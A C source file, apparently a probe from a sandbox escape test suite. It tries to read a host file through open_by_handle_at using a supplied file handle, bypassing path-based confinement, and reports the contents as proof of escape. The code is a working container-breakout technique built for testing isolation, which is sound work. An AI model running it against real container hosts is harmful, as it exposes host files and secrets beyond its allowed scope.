// attempt: open a file of the host's by its handle, which needs no path
// wall: system calls
// control: bare root: below the filter lies a second wall: handles are for who may pass all folders
// control-user: none: handles are for who may pass all folders
// proof: secret
#include "escape.h"

int main(void) {
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u;
	char secret[100] = "";
	const char *hex = target("HANDLE");
	u.handle.handle_type = number("HANDLE_TYPE");
	u.handle.handle_bytes = strlen(hex) / 2;
	for (unsigned i = 0; i < u.handle.handle_bytes; i++) sscanf(hex + 2 * i, "%2hhx", &u.handle.f_handle[i]);
	int fd = open_by_handle_at(open(target("ZONE"), O_RDONLY), &u.handle, O_RDONLY);
	if (fd < 0) return stopped("open_by_handle_at");
	if (read(fd, secret, sizeof secret - 1) < 0) return stopped("read");
	return escaped("%s", secret);
}
